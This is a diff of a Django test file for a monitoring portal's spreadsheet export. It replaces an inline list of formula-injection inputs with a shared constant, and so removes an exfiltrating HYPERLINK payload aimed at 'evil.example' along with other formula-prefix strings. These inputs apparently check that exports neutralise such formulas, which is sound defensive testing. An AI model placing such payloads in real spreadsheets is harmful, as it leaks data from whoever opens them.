@@ -5,7 +5,7 @@ import pytest
 from monitoring.models import Period, Status, Submission
 from monitoring.selectors import form_indicators, submission_get, submission_values
 from monitoring.services import submission_accept, submission_reopen, submission_save
-from pilot_portal.tests.workbooks import formulas_in, text_cells
+from pilot_portal.tests.workbooks import FORMULA_LIKE_TEXTS, formulas_in, text_cells
 from pilot_portal.xlsx_cells import as_text
 from pilots.models import Region, User
 from reports.models import Report
@@ -14,15 +14,8 @@ from reports.snapshot import NARRATIVE_CODES
 
 pytestmark = pytest.mark.django_db
 
-# What an organisation might type, on purpose or by pasting; each is one narrative of its own.
-DANGEROUS = [
-    '=HYPERLINK("http://evil.example/?leak="&B2,"click me")',
-    "+1+1",
-    "-2+3",
-    "@SUM(A1)",
-    "\t=1",
-    "\r=1",
-]
+# What an organisation might type; each is one narrative of its own.
+DANGEROUS = FORMULA_LIKE_TEXTS
 
 
 def _type_and_accept(institute, coordinator, texts: list[str]) -> None:
